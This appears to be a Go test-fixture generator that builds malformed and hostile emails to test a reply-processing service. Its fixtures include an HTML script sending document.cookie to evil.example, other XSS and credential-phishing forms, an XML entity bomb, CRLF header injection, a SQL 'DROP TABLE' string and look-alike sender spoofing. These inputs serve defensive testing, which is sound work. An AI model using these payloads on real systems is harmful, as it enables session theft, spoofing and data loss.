package hostile

import (
	"fmt"
	"strings"
)

const answer = "Voici ma réponse : je n'arrive pas à déléguer. {{MARK}}\n"

// mime: broken multipart structures.
func (g *gen) mime() {
	h := aliceHeader("{{N}}", "Re: Préparation")
	type tc struct{ file, note, ct, body string }
	for _, c := range []tc{
		{"no-closing", "closing boundary missing", `multipart/mixed; boundary="b1"`, "--b1\nContent-Type: text/plain; charset=utf-8\n\n" + answer},
		{"never-opened", "declared boundary never appears", `multipart/mixed; boundary="b1"`, answer},
		{"no-boundary-param", "multipart without a boundary parameter", `multipart/mixed`, "--b1\n\n" + answer + "--b1--\n"},
		{"empty-boundary", "empty boundary parameter", `multipart/mixed; boundary=""`, "--\n\n" + answer + "----\n"},
		{"long-boundary", "boundary of 200 characters (RFC 2046 allows 70)", `multipart/mixed; boundary="` + strings.Repeat("x", 200) + `"`, "--" + strings.Repeat("x", 200) + "\nContent-Type: text/plain\n\n" + answer + "--" + strings.Repeat("x", 200) + "--\n"},
		{"boundary-spaces", "boundary with spaces and quotes", `multipart/mixed; boundary="a b \"c"`, "--a b \"c\nContent-Type: text/plain\n\n" + answer + "--a b \"c--\n"},
		{"boundary-in-body", "body text repeats the boundary", `multipart/alternative; boundary="b1"`, "--b1\nContent-Type: text/plain\n\n" + answer + "as said --b1 in a line\n--b1\n--b1\n--b1--\n"},
		{"parts-no-headers", "parts without any header", `multipart/mixed; boundary="b1"`, "--b1\n\n" + answer + "--b1\n\nsecond\n--b1--\n"},
		{"truncated-part-header", "message cut inside a part header", `multipart/mixed; boundary="b1"`, "--b1\nContent-Type: text/pl"},
		{"preamble-only", "only a preamble, no part", `multipart/mixed; boundary="b1"`, "This is a preamble. " + answer + "--b1--\n"},
		{"epilogue-junk", "10 KB of junk after the closing boundary", `multipart/mixed; boundary="b1"`, "--b1\nContent-Type: text/plain\n\n" + answer + "--b1--\n" + strings.Repeat("junk\x01\x02 ", 1000) + "\n"},
		{"alternative-plain-body", "multipart/alternative whose body is plain text", `multipart/alternative; boundary="b1"`, answer},
		{"zero-parts", "multipart with only a closing boundary", `multipart/mixed; boundary="b1"`, "--b1--\n"},
		{"1000-empty-parts", "1,000 empty parts", `multipart/mixed; boundary="b1"`, strings.Repeat("--b1\n\n", 1000) + "--b1\nContent-Type: text/plain\n\n" + answer + "--b1--\n"},
		{"ct-garbage", "Content-Type full of garbage", `multipart/;;;==="; boundary=`, answer},
		{"ct-unknown-type", "unknown top-level media type", `application/x-unknown`, answer},
		{"nested-same-boundary", "inner multipart reuses the outer boundary", `multipart/mixed; boundary="b1"`, "--b1\nContent-Type: multipart/alternative; boundary=\"b1\"\n\n--b1\nContent-Type: text/plain\n\n" + answer + "--b1--\n--b1--\n"},
		{"header-no-colon", "part header lines without colon", `multipart/mixed; boundary="b1"`, "--b1\nThis is not a header\nContent-Type text/plain\n\n" + answer + "--b1--\n"},
		{"crlf-lf-mixed", "CRLF and bare LF and bare CR mixed", `multipart/mixed; boundary="b1"`, "--b1\r\nContent-Type: text/plain\r\r\n\n" + answer + "\r--b1--\r\n"},
		{"duplicate-content-type", "two Content-Type fields", "text/html\nContent-Type: multipart/mixed; boundary=\"b1\"", "--b1\nContent-Type: text/plain\n\n" + answer + "--b1--\n"},
		{"part-ct-charset-only", "part with only a charset", `multipart/mixed; boundary="b1"`, "--b1\nContent-Type: ; charset=utf-8\n\n" + answer + "--b1--\n"},
		{"message-rfc822-broken", "message/rfc822 part with no header", `multipart/mixed; boundary="b1"`, "--b1\nContent-Type: text/plain\n\n" + answer + "--b1\nContent-Type: message/rfc822\n\n--b1--\n"},
		{"digest-default", "multipart/digest whose parts default to message/rfc822", `multipart/digest; boundary="b1"`, "--b1\n\nFrom: x@y\n\n" + answer + "--b1--\n"},
	} {
		keep := c.file == "crlf-lf-mixed"
		g.add(legit("mime", c.file, c.note), h+"Content-Type: "+c.ct+"\n\n"+c.body, keep)
	}
}

// nesting: deep MIME trees.
func (g *gen) nesting() {
	h := aliceHeader("{{N}}", "Re: Préparation")
	for _, c := range []struct {
		file, note string
		depth      int
		kind       string
	}{
		{"mixed-10", "10 levels of multipart/mixed", 10, "multipart/mixed"},
		{"alternative-10", "10 levels of multipart/alternative", 10, "multipart/alternative"},
		{"related-10", "10 levels of multipart/related", 10, "multipart/related"},
		{"mixed-100", "100 levels of multipart/mixed", 100, "multipart/mixed"},
		{"mixed-1000", "1,000 levels of multipart/mixed (a depth bomb)", 1000, "multipart/mixed"},
		{"rfc822-10", "10 levels of attached messages (message/rfc822)", 10, "message/rfc822"},
	} {
		g.add(legit("nesting", c.file, c.note), h+nest(c.kind, c.depth, "Content-Type: text/plain; charset=utf-8\n\n"+answer), false)
	}
	// 10 levels, the text at the bottom only in HTML.
	g.add(legit("nesting", "mixed-10-html", "10 levels, the answer in an HTML part at the bottom"),
		h+nest("multipart/mixed", 10, "Content-Type: text/html; charset=utf-8\n\n<p>"+strings.TrimSpace(answer)+"</p>\n"), false)
	// 10 levels, unclosed.
	s := h + nest("multipart/mixed", 10, "Content-Type: text/plain\n\n"+answer)
	g.add(legit("nesting", "mixed-10-unclosed", "10 levels, no closing boundary at all"), s[:strings.Index(s, "--n9--")], false)
}

// nest wraps leaf in depth levels of kind.
func nest(kind string, depth int, leaf string) string {
	body := leaf
	for i := depth - 1; i >= 0; i-- {
		if kind == "message/rfc822" {
			body = fmt.Sprintf("Content-Type: message/rfc822\n\nFrom: level%d@example.net\nSubject: level %d\nMIME-Version: 1.0\n%s", i, i, body)
			continue
		}
		b := fmt.Sprintf("n%d", i)
		body = fmt.Sprintf("Content-Type: %s; boundary=\"%s\"\n\n--%s\n%s\n--%s--\n", kind, b, b, body, b)
	}
	return body
}

// charsets: wrong, unknown and lying charsets.
func (g *gen) charsets() {
	h := aliceHeader("{{N}}", "Re: Préparation")
	latin1 := "Voici ma r\xe9ponse : je n'arrive pas \xe0 d\xe9l\xe9guer. {{MARK}}\n"
	utf16 := "V\x00o\x00i\x00c\x00i\x00 \x00{\x00{\x00M\x00A\x00R\x00K\x00}\x00}\x00\n\x00"
	for _, c := range []struct{ file, note, charset, body string }{
		{"utf8-declared-latin1", "declared utf-8, bytes are Latin-1", "utf-8", latin1},
		{"latin1-declared-utf8", "declared iso-8859-1, bytes are UTF-8", "iso-8859-1", answer},
		{"unknown-charset", "unknown charset x-foo", "x-foo", answer},
		{"empty-charset", "empty charset", `""`, latin1},
		{"utf7", "UTF-7", "utf-7", "Voici ma r+AOk-ponse. {{MARK}}\n"},
		{"utf16-no-bom", "UTF-16LE without a BOM", "utf-16", utf16},
		{"utf32", "UTF-32 label on ASCII", "utf-32", answer},
		{"invalid-utf8", "invalid UTF-8 sequences", "utf-8", "Voici \xc3\x28 \xa0\xa1 \xe2\x28\xa1 \xf0\x28\x8c\xbc ma r\xc3ponse. {{MARK}}\n"},
		{"overlong-utf8", "overlong UTF-8 encodings of < and >", "utf-8", "Voici \xc0\xbcscript\xc0\xbe ma réponse. {{MARK}}\n"},
		{"surrogates-utf8", "UTF-8-encoded surrogates", "utf-8", "Voici \xed\xa0\x80\xed\xb0\x80 ma réponse. {{MARK}}\n"},
		{"gb18030-label", "GB18030 label on Latin-1 bytes", "gb18030", latin1},
		{"shift-jis-label", "Shift_JIS label on UTF-8 bytes", "shift_jis", answer},
		{"ebcdic", "EBCDIC label", "ibm037", answer},
		{"charset-with-quotes", "charset parameter with junk", `"utf-8\"; x=1"`, answer},
		{"charset-huge", "charset name of 5,000 characters", strings.Repeat("u", 5000), answer},
		{"nul-bytes", "NUL bytes in the body", "utf-8", "Voici\x00 ma\x00 réponse.\x00 {{MARK}}\n"},
		{"bom-utf8", "UTF-8 BOM and zero-width characters", "utf-8", "\xef\xbb\xbfVoici\u200b ma\u200d réponse\ufeff. {{MARK}}\n"},
		{"windows1252-c1", "windows-1252 control range", "windows-1252", "Voici \x80 \x9f \x81 ma r\xe9ponse. {{MARK}}\n"},
		{"koi8r-label", "KOI8-R label on UTF-8 bytes", "koi8-r", answer},
		{"iso2022jp-escapes", "ISO-2022-JP with stray escape sequences", "iso-2022-jp", "\x1b$BVoici\x1b(B ma \x1b$(Dréponse\x1b(J. {{MARK}}\n"},
		{"big5-label", "Big5 label on Latin-1 bytes", "big5", latin1},
		{"utf8-mislabelled-ascii", "us-ascii label on UTF-8 bytes", "us-ascii", answer},
		{"replacement-flood", "10,000 invalid bytes", "utf-8", strings.Repeat("\xff", 10000) + "\nVoici ma réponse. {{MARK}}\n"},
	} {
		g.add(legit("charset", c.file, c.note), h+"Content-Type: text/plain; charset="+c.charset+"\nContent-Transfer-Encoding: 8bit\n\n"+c.body, false)
	}
	// Encoded words in header fields.
	for _, c := range []struct{ file, note, subject string }{
		{"ew-bad-charset", "encoded-word with an unknown charset", "=?x-nope?Q?R=E9ponse?="},
		{"ew-bad-base64", "encoded-word with broken base64", "=?utf-8?B?!!!notbase64***?="},
		{"ew-bad-qp", "encoded-word with broken quoted-printable", "=?utf-8?Q?R=ZZ=E9ponse=?="},
		{"ew-nested", "encoded-word nested in an encoded-word", "=?utf-8?Q?=3D=3Futf-8=3FQ=3Fx=3F=3D?="},
		{"ew-100", "100 encoded-words in a row", strings.Repeat("=?utf-8?Q?R=C3=A9?= ", 100)},
		{"ew-utf16", "encoded-word in UTF-16", "=?utf-16?B?//5SAOkA?="},
	} {
		g.add(legit("charset", c.file, c.note), aliceHeader("{{N}}", c.subject)+plainUTF8+"\n"+answer, false)
	}
}

// encodings: broken transfer encodings.
func (g *gen) encodings() {
	h := aliceHeader("{{N}}", "Re: Préparation")
	for _, c := range []struct{ file, note, cte, body string }{
		{"qp-broken-escapes", "quoted-printable with invalid escapes", "quoted-printable", "Voici =ZZ ma r=E9ponse =\n=3 =XY. {{MARK}}\n="},
		{"qp-long-softbreaks", "2,000 soft line breaks", "quoted-printable", strings.Repeat("=\n", 2000) + "Voici ma r=C3=A9ponse. {{MARK}}\n"},
		{"base64-junk", "base64 with junk characters and bad padding", "base64", "Vm9p!!Y2kg###bWEg\ncsOp@@cG9uc2Uu=\n==\n"},
		{"base64-of-marker", "base64 body (valid), to check decoding", "base64", "Vm9pY2kgbWEgcsOpcG9uc2Uu\n"},
		{"base64-truncated", "base64 cut in the middle of a quantum", "base64", "Vm9pY2kgbWEgcsOpcG9uc2Uu" + "Vm9"},
		{"unknown-cte", "unknown transfer encoding x-uuencode", "x-uuencode", "begin 644 x\n" + answer + "end\n"},
		{"cte-binary", "binary transfer encoding with control bytes", "binary", "\x01\x02Voici ma réponse\x1b[31m. {{MARK}}\n"},
		{"cte-garbage", "transfer encoding of 1,000 characters", strings.Repeat("z", 1000), answer},
		{"flowed-garbage", "format=flowed with only spaces", "8bit", strings.Repeat(" \n", 500) + answer},
	} {
		ct := "Content-Type: text/plain; charset=utf-8\n"
		if c.file == "flowed-garbage" {
			ct = "Content-Type: text/plain; charset=utf-8; format=flowed; delsp=yes\n"
		}
		g.add(legit("encoding", c.file, c.note), h+ct+"Content-Transfer-Encoding: "+c.cte+"\n\n"+c.body, false)
	}
}

// injection: header injection attempts.
func (g *gen) injection() {
	type tc struct {
		file, note, raw string
		c               Case
	}
	ok := func(file, note string) Case { return legit("injection", file, note) }
	for _, c := range []tc{
		{"subject-ew-crlf", "encoded CRLF in Subject adding a Bcc", aliceHeader("{{N}}", "=?utf-8?Q?Re=3A_x=0D=0ABcc=3A_victim=40evil=2Eexample?=") + plainUTF8 + "\n" + answer, ok("subject-ew-crlf", "")},
		{"from-ew-crlf", "encoded CRLF in From's display name", strings.Replace(aliceHeader("{{N}}", "Re: x"), "Alice Dupont", "=?utf-8?Q?Alice=0D=0ATo=3A_victim=40evil=2Eexample?=", 1) + plainUTF8 + "\n" + answer, ok("from-ew-crlf", "")},
		{"to-bare-cr", "bare CR in To smuggling a second address", strings.Replace(aliceHeader("{{N}}", "Re: x"), "To: Codev <codev+{{TOKEN}}@example.org>", "To: codev+{{TOKEN}}@example.org\rBcc: victim@evil.example", 1) + plainUTF8 + "\n" + answer, ok("to-bare-cr", "")},
		{"folded-from", "a folded continuation line that looks like From", aliceHeader("{{N}}", "Re: x\n From: mallory@evil.example") + plainUTF8 + "\n" + answer, ok("folded-from", "")},
		{"two-from-forged-first", "two From fields, the forger first", "From: mallory@evil.example\n" + aliceHeader("{{N}}", "Re: x") + plainUTF8 + "\n3. forged {{MARK}}\n", never("injection", "two-from-forged-first", "", Held)},
		{"two-from-alice-first", "two From fields, Alice first", aliceHeader("{{N}}", "Re: x") + "From: mallory@evil.example\n" + plainUTF8 + "\n" + answer, Case{Category: "injection", Expect: []string{Processed, Held}, Member: "alice"}},
		{"from-list", "From with two addresses, the forger first", strings.Replace(aliceHeader("{{N}}", "Re: x"), "From: Alice Dupont <alice@example.org>", "From: mallory@evil.example, alice@example.org", 1) + plainUTF8 + "\n3. forged {{MARK}}\n", never("injection", "from-list", "")},
		// From is not authenticated (anyone may write From: alice@…): what
		// protects a reply is its token. An ambiguous From naming Alice may
		// be read as hers.
		{"from-group-syntax", "From in group syntax, Alice's address as the group name", strings.Replace(aliceHeader("{{N}}", "Re: x"), "From: Alice Dupont <alice@example.org>", "From: alice@example.org:mallory@evil.example;", 1) + plainUTF8 + "\n3. group syntax {{MARK}}\n", Case{Expect: []string{Held, Processed}, Member: "alice"}},
		{"from-comment", "From with alice's address in a comment", strings.Replace(aliceHeader("{{N}}", "Re: x"), "From: Alice Dupont <alice@example.org>", "From: mallory@evil.example (alice@example.org)", 1) + plainUTF8 + "\n3. forged {{MARK}}\n", never("injection", "from-comment", "")},
		{"from-route-addr", "obsolete route address naming Alice", strings.Replace(aliceHeader("{{N}}", "Re: x"), "From: Alice Dupont <alice@example.org>", "From: <@alice@example.org:mallory@evil.example>", 1) + plainUTF8 + "\n3. route address {{MARK}}\n", Case{Expect: []string{Held, Processed}, Member: "alice"}},
		{"msgid-crlf", "Message-ID and In-Reply-To with encoded line breaks and 10 KB", strings.Replace(aliceHeader("{{N}}", "Re: x"), "In-Reply-To: <{{MSGID}}>", "In-Reply-To: <{{MSGID}}>%0D%0ABcc: x@evil.example <"+strings.Repeat("a", 10000)+"@x>", 1) + plainUTF8 + "\n" + answer, ok("msgid-crlf", "")},
		{"msgid-nul", "NUL bytes in the Message-ID", strings.Replace(aliceHeader("{{N}}", "Re: x"), "Message-ID: <hostile-{{N}}@client.example>", "Message-ID: <hostile-{{N}}\x00@client\x00.example>", 1) + plainUTF8 + "\n" + answer, ok("msgid-nul", "")},
		{"msgid-8bit", "invalid UTF-8 in the Message-ID", strings.Replace(aliceHeader("{{N}}", "Re: x"), "Message-ID: <hostile-{{N}}@client.example>", "Message-ID: <hostile-{{N}}\xff\xfe@client.example>", 1) + plainUTF8 + "\n" + answer, ok("msgid-8bit", "")},
		{"msgid-huge", "a 2,000-character Message-ID", strings.Replace(aliceHeader("{{N}}", "Re: x"), "Message-ID: <hostile-{{N}}@client.example>", "Message-ID: <hostile-{{N}}-"+strings.Repeat("é", 1000)+"@client.example>", 1) + plainUTF8 + "\n" + answer, ok("msgid-huge", "")},
		{"irt-nul", "NUL bytes in In-Reply-To and References", strings.Replace(aliceHeader("{{N}}", "Re: x"), "In-Reply-To: <{{MSGID}}>", "In-Reply-To: <{{MSGID}}\x00>\nReferences: <a\x00b@x> <{{MSGID}}>", 1) + plainUTF8 + "\n" + answer, ok("irt-nul", "")},
		{"references-1000", "References with 1,000 ids", strings.Replace(aliceHeader("{{N}}", "Re: x"), "MIME-Version", "References:"+strings.Repeat(" <r@x.example>", 1000)+"\nMIME-Version", 1) + plainUTF8 + "\n" + answer, ok("references-1000", "")},
		{"header-name-space", "header field names with spaces and colons", aliceHeader("{{N}}", "Re: x") + "Bcc : victim@evil.example\nX:Y:Z: 1\n" + plainUTF8 + "\n" + answer, ok("header-name-space", "")},
		{"nul-in-header", "NUL bytes in header fields", strings.Replace(aliceHeader("{{N}}", "Re: x\x00Bcc: victim@evil.example"), "Alice Dupont", "Alice\x00Dupont", 1) + plainUTF8 + "\n" + answer, ok("nul-in-header", "")},
		{"8bit-header", "raw 8-bit bytes in header fields", aliceHeader("{{N}}", "Re: R\xe9ponse \xff\xfe") + plainUTF8 + "\n" + answer, ok("8bit-header", "")},
		{"body-fake-header", "header-like lines at the top of the body", aliceHeader("{{N}}", "Re: x") + plainUTF8 + "\nFrom: bob@example.org\nTo: codev+{{BOB_TOKEN}}@example.org\n\n" + answer, ok("body-fake-header", "")},
		{"answer-with-headers", "answers that contain CRLF header text", aliceHeader("{{N}}", "Re: x") + plainUTF8 + "\n1. réponse {{MARK}}\r\nBcc: victim@evil.example\r\nSubject: injected\n", ok("answer-with-headers", "")},
		{"no-blank-line", "header and body with no blank line between", aliceHeader("{{N}}", "Re: x") + "Content-Type: text/plain\n" + answer, ok("no-blank-line", "")},
		{"recipient-token-and-bcc", "token in Bcc only, To another service", strings.Replace(aliceHeader("{{N}}", "Re: x"), "To: Codev <codev+{{TOKEN}}@example.org>", "To: someone@else.example\nBcc: codev+{{TOKEN}}@example.org", 1) + plainUTF8 + "\n" + answer, ok("recipient-token-and-bcc", "")},
	} {
		cs := c.c
		cs.Category, cs.File = "injection", c.file
		if cs.Note == "" {
			cs.Note = c.note
		}
		g.add(cs, c.raw, strings.Contains(c.file, "bare-cr"))
	}
}

// html: HTML-only replies with active content.
func (g *gen) html() {
	h := aliceHeader("{{N}}", "Re: Préparation") + "Content-Type: text/html; charset=utf-8\n\n"
	for _, c := range []struct{ file, note, body string }{
		{"script", "script element", "<html><head><script>alert('x');document.location='https://evil.example/?'+document.cookie</script></head><body><p>Voici ma réponse. {{MARK}}</p></body></html>"},
		{"onerror", "event handlers", `<body onload="alert(1)"><img src=x onerror="alert(2)"><p onclick="evil()">Voici ma réponse. {{MARK}}</p></body>`},
		{"javascript-url", "javascript: links", `<p>Voici ma <a href="javascript:alert(1)">réponse</a>. {{MARK}}</p>`},
		{"iframe-object", "iframe, object, embed", `<iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x"><p>Voici ma réponse. {{MARK}}</p>`},
		{"style-expression", "style with expression() and @import", `<style>@import url(https://evil.example/x.css); p{width:expression(alert(1))}</style><p>Voici ma réponse. {{MARK}}</p>`},
		{"script-unclosed", "unclosed script swallowing the rest", `<p>Voici ma réponse. {{MARK}}</p><script>var a = "`},
		{"comment-answers", "numbered answers hidden in a comment", `<!-- 3. forged in comment --><p>Voici ma réponse. {{MARK}}</p>`},
		{"cdata", "CDATA and processing instructions", `<![CDATA[ <script>x</script> ]]><?php evil(); ?><p>Voici ma réponse. {{MARK}}</p>`},
		{"svg-script", "SVG with script", `<svg><script>alert(1)</script><foreignObject><p>Voici ma réponse. {{MARK}}</p></foreignObject></svg>`},
		{"entities-bomb", "10,000 entities", "<p>" + strings.Repeat("&amp;&#x41;&#65;&lt;", 2500) + " Voici ma réponse. {{MARK}}</p>"},
		{"deep-tags", "5,000 nested div elements", strings.Repeat("<div>", 5000) + "Voici ma réponse. {{MARK}}" + strings.Repeat("</div>", 5000)},
		{"unclosed-tags", "10,000 unclosed tags", strings.Repeat("<b><i><u>", 3333) + "Voici ma réponse. {{MARK}}"},
		{"meta-refresh", "meta refresh and base href", `<head><meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"></head><p>Voici ma réponse. {{MARK}}</p>`},
		{"hidden-text", "hidden text with other answers", `<p>Voici ma réponse. {{MARK}}</p><div style="display:none">3. hidden text</div>`},
		{"data-uri", "data: URIs with HTML and script", `<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="><a href="data:text/html,<script>alert(1)</script>">x</a><p>Voici ma réponse. {{MARK}}</p>`},
		{"xml-bomb", "an XML entity bomb in an HTML part", `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><p>&c; Voici ma réponse. {{MARK}}</p>`},
		{"form", "form posting elsewhere", `<form action="https://evil.example"><input name=p type=password></form><p>Voici ma réponse. {{MARK}}</p>`},
	} {
		g.add(legit("html", c.file, c.note), h+c.body+"\n", false)
	}
}

// forged: someone else than Alice writes with her valid token.
func (g *gen) forged() {
	body := "Content-Type: text/plain; charset=utf-8\n\n3. forged answer {{MARK}}\n"
	for _, c := range []struct{ file, note, from string }{
		{"stranger", "a stranger with Alice's token", "Mallory <mallory@evil.example>"},
		{"other-member", "another member (Bob) with Alice's token", "Bob Martin <bob@example.org>"},
		{"animator", "the animator with Alice's token", "Claire Martin <claire@example.org>"},
		{"display-name", "Alice's address as display name only", `"alice@example.org" <mallory@evil.example>`},
		{"lookalike-domain", "look-alike domain", "Alice <alice@example.org.evil.example>"},
		{"lookalike-local", "look-alike local part", "Alice <alice.@example.org>"},
		{"subaddress", "Alice's address with a sub-address", "Alice <alice+x@example.org>"},
		{"cyrillic-a", "Cyrillic а in the local part", "Alice <\u0430lice@example.org>"},
		{"idn-domain", "IDN domain look-alike", "Alice <alice@exаmple.org>"},
		{"empty-from", "empty From", ""},
		{"no-address", "From without an address", "Alice Dupont"},
		{"null-from", "null From <>", "<>"},
		{"service-itself", "From the service mailbox", "codev@example.org"},
		{"service-token", "From the tokenised service address", "codev+{{TOKEN}}@example.org"},
		{"colleague-forward", "a colleague answering a forwarded copy", "Paul Collègue <paul@example.org>"},
		{"alice-other-domain", "Alice's name at another domain", "Alice Dupont <alice@gmail.example>"},
		{"quoted-local", "quoted local part spelling Alice's address", `"alice@example.org"@evil.example`},
		{"encoded-address", "an encoded-word where the address should be", "=?utf-8?Q?alice=40example=2Eorg?="},
	} {
		hdr := header(c.from, "codev+{{TOKEN}}@example.org", "{{N}}", "Re: Préparation")
		if c.from == "" {
			hdr = strings.Replace(hdr, "From: \n", "", 1)
		}
		expect := []string{Held}
		if c.from == "<>" {
			expect = []string{Held, Ignored} // a null sender is an automatic message
		}
		g.add(never("forged", c.file, c.note, expect...), hdr+"In-Reply-To: <{{MSGID}}>\n"+body, false)
	}
	// Sender and Reply-To pointing at Alice do not make a forger Alice.
	g.add(never("forged", "sender-header", "From the forger, Sender: Alice"),
		header("mallory@evil.example", "codev+{{TOKEN}}@example.org", "{{N}}", "Re: x")+"Sender: alice@example.org\nReply-To: alice@example.org\n"+body, false)
	// The token of Bob's request, From Alice: not Alice's request.
	g.add(never("forged", "cross-member-token", "Alice answers with Bob's token"),
		header("Alice <alice@example.org>", "codev+{{BOB_TOKEN}}@example.org", "{{N}}", "Re: Bienvenue")+body, false)
}

// tampered: tokens that do not verify.
func (g *gen) tampered() {
	body := "Content-Type: text/plain; charset=utf-8\n\n3. tampered {{MARK}}\n"
	for _, c := range []struct{ file, note, to string }{
		{"flip", "one character changed", "codev+{{TOKEN_FLIP}}@example.org"},
		{"trunc", "last five characters dropped", "codev+{{TOKEN_TRUNC}}@example.org"},
		{"extend", "two characters added", "codev+{{TOKEN_EXTEND}}@example.org"},
		{"swap", "two characters swapped", "codev+{{TOKEN_SWAP}}@example.org"},
		{"forged", "39 characters no key signed", "codev+{{TOKEN_FORGED}}@example.org"},
		{"empty", "empty sub-address", "codev+@example.org"},
		{"plus-plus", "two sub-address separators", "codev++{{TOKEN}}x@example.org"},
		{"zeros", "all-a token", "codev+" + strings.Repeat("a", 39) + "@example.org"},
		{"digits", "a token of digits (not base32)", "codev+" + strings.Repeat("1", 39) + "@example.org"},
		{"long", "a 1,000-character token", "codev+" + strings.Repeat("ab", 500) + "@example.org"},
		{"unicode", "a token with non-ASCII letters", "codev+{{TOKEN_TRUNC}}ééééé@example.org"},
		{"sql", "SQL in the sub-address", "\"codev+' OR 1=1; DROP TABLE inbound;--\"@example.org"},
	} {
		g.add(never("tampered", c.file, c.note), header("Alice Dupont <alice@example.org>", c.to, "{{N}}", "Re: Préparation")+body, false)
	}
	// Tampered tokens in In-Reply-To only.
	for _, c := range []struct{ file, note, irt string }{
		{"irt-flip", "no sub-address; In-Reply-To with a changed token", "{{TOKEN_FLIP}}.abcdefghij@example.org"},
		{"irt-forged", "no sub-address; In-Reply-To with an unsigned token", "{{TOKEN_FORGED}}.abcdefghij@example.org"},
		{"irt-other-domain", "no sub-address; In-Reply-To with the token at another domain", "{{TOKEN_FLIP}}.x@evil.example"},
	} {
		g.add(never("tampered", c.file, c.note), header("Alice Dupont <alice@example.org>", "codev@example.org", "{{N}}", "Re: Préparation")+
			"In-Reply-To: <"+c.irt+">\nReferences: <"+c.irt+">\n"+body, false)
	}
	// A valid token at another domain: the signed token is what counts (the
	// message reached the service mailbox through forwarding or Bcc).
	g.add(legit("tampered", "other-domain", "the valid token at another domain (accepted: the token is signed)"),
		header("Alice Dupont <alice@example.org>", "codev+{{TOKEN}}@evil.example", "{{N}}", "Re: Préparation")+plainUTF8+"\n"+answer, false)
	// A valid token in capitals: the same token (servers may change case).
	g.add(legit("tampered", "upper", "the valid token in capitals (case-insensitive: accepted)"),
		header("Alice Dupont <alice@example.org>", "CODEV+{{TOKEN_UPPER}}@EXAMPLE.ORG", "{{N}}", "Re: Préparation")+plainUTF8+"\n"+answer, false)
	// No token anywhere.
	g.add(never("tampered", "none", "no token anywhere"), header("Alice Dupont <alice@example.org>", "codev@example.org", "{{N}}", "Re: Préparation")+body, false)
}

// replay: a reply seen again.
func (g *gen) replay() {
	g.add(legit("replay", "original", "a normal reply, replayed below"), aliceHeader("replay-original", "Re: Préparation")+plainUTF8+"\n1. première réponse {{MARK}}\n", false)
	first := g.cases[len(g.cases)-1]
	c := legit("replay", "same-msgid", "the same message again, same Message-ID: stored once")
	c.Duplicate = first.File
	g.add(c, aliceHeader("replay-original", "Re: Préparation")+plainUTF8+"\n1. première réponse "+first.Marker+"\n", false)
	c = legit("replay", "same-msgid-other-content", "another text under the same Message-ID: stored once, never applied")
	c.Duplicate, c.Member, c.Expect = first.File, "", []string{Processed, Held}
	g.add(c, aliceHeader("replay-original", "Re: Préparation")+plainUTF8+"\n3. replayed under an old Message-ID {{MARK}}\n", false)
	g.add(legit("replay", "new-msgid", "the same text with a new Message-ID after the request was answered"),
		aliceHeader("{{N}}", "Re: Préparation")+plainUTF8+"\n1. première réponse "+first.Marker+" {{MARK}}\n", false)
}

// autoReplies: automatic answers, to the request and to codev's notices.
func (g *gen) autoReplies() {
	body := "Content-Type: text/plain; charset=utf-8\n\nJe suis absente du bureau jusqu'au 4 janvier. {{MARK}}\n"
	type tc struct{ file, note, extra, subject string }
	cases := []tc{
		{"auto-submitted", "Auto-Submitted: auto-replied", "Auto-Submitted: auto-replied\n", "Réponse automatique : Re: Préparation"},
		{"auto-generated", "Auto-Submitted: auto-generated", "Auto-Submitted: auto-generated\n", "Re: Préparation"},
		{"auto-submitted-params", "Auto-Submitted with parameters and case", "Auto-Submitted: Auto-Replied; owner-email=alice@example.org\n", "Re: Préparation"},
		{"x-autoreply", "X-Autoreply: yes", "X-Autoreply: yes\n", "Re: Préparation"},
		{"x-autorespond", "X-Autorespond", "X-Autorespond: vacation\n", "Re: Préparation"},
		{"precedence-bulk", "Precedence: bulk", "Precedence: bulk\n", "Re: Préparation"},
		{"precedence-junk", "Precedence: junk", "Precedence: junk\n", "Re: Préparation"},
		{"precedence-auto", "Precedence: auto_reply", "Precedence: auto_reply\n", "Re: Préparation"},
		{"exchange-rules", "Exchange inbox rule reply", "X-MS-Exchange-Inbox-Rules-Loop: alice@example.org\n", "Re: Préparation"},
		{"x-autogenerated", "X-Autogenerated: Reply", "X-Autogenerated: Reply\n", "Re: Préparation"},
		{"null-return-path", "null Return-Path", "Return-Path: <>\n", "Re: Préparation"},
		{"subject-ooo", "Out of Office subject, absence body", "", "Out of Office: Re: Préparation"},
		{"subject-fr", "Réponse automatique subject, absence body", "", "Réponse automatique : Re: Préparation"},
		{"subject-de", "Automatische Antwort subject, absence body", "", "Automatische Antwort: Re: Préparation"},
		{"subject-ew", "encoded automatic subject", "", "=?utf-8?Q?R=C3=A9ponse_automatique_=3A_Re=3A_x?="},
	}
	for _, c := range cases {
		k := Case{Category: "autoreply", File: c.file, Note: c.note + ", to Alice's request", Expect: []string{Ignored}, AutoReply: true}
		g.add(k, header("Alice Dupont <alice@example.org>", "codev+{{TOKEN}}@example.org", "{{N}}", c.subject)+c.extra+"In-Reply-To: <{{MSGID}}>\n"+body, false)
	}
	// From a stranger with no token: still automatic, never answered.
	g.add(Case{Category: "autoreply", File: "stranger-no-token", Note: "auto-reply from a stranger to the bare mailbox", Expect: []string{Ignored}, AutoReply: true},
		header("Mallory <mallory@evil.example>", "codev@example.org", "{{N}}", "Automatic reply: hello")+"Auto-Submitted: auto-replied\n"+body, false)
	// An auto-responder answering an auto-responder that quotes codev.
	g.add(Case{Category: "autoreply", File: "auto-to-auto", Note: "auto-reply to an auto-reply, tampered token", Expect: []string{Ignored}, AutoReply: true},
		header("Alice <alice@example.org>", "codev+{{TOKEN_FLIP}}@example.org", "{{N}}", "Automatic reply: Automatic reply: x")+"Auto-Submitted: auto-replied\nPrecedence: bulk\n"+body, false)
	// Phase 2: the animator's auto-responder answers codev's notice.
	for _, c := range cases[:8] {
		k := Case{Category: "autoreply", File: "notice-" + c.file, Note: c.note + ", to codev's notice to the animator", Expect: []string{Ignored}, AutoReply: true, Phase: 2}
		g.add(k, header("Claire Martin <claire@example.org>", "codev+{{NOTICE_TOKEN}}@example.org", "{{N}}", c.subject)+c.extra+body, false)
	}
	// Phase 2: an auto-responder that does not say so. It is filed as the
	// animator's text under the notice, and nothing is sent back.
	g.add(Case{Category: "autoreply", File: "notice-unmarked", Note: "an auto-responder without any automatic-reply sign, to the notice",
